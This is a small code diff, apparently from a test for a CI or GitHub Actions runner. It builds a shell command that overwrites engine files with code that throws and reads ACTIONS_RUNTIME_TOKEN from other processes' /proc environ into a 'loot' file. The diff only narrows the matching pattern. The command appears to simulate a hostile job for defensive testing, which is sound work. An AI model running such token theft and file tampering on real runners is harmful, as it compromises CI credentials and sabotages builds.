@@ -241,7 +241,7 @@ echo "$PLAN_ID" >> b.txt
   const tamper = (loot: string) =>
     `for each in "$GITHUB_WORKSPACE/.phase-executor" "$RUNNER_TEMP"/engine-*; do [ -d "$each" ] || continue; ` +
     `echo "found $each" >> "${loot}"; echo "throw new Error()" > "$each/dist/index.js"; done; ` +
-    `for each in /proc/[0-9]*; do tr "\\0" " " < $each/cmdline | grep -q "engine-.*/dist/index.js" && ` +
+    `for each in /proc/[0-9]*; do tr "\\0" " " < $each/cmdline | grep -q "/engine-[A-Za-z0-9]*/dist/index.js" && ` +
     `tr "\\0" "\\n" < $each/environ | grep "^ACTIONS_RUNTIME_TOKEN=" >> "${loot}"; done 2> /dev/null;`;
   const fails = "printf 'TAP version 13\\n1..1\\nnot ok 1 - a\\n'; exit 1";
 
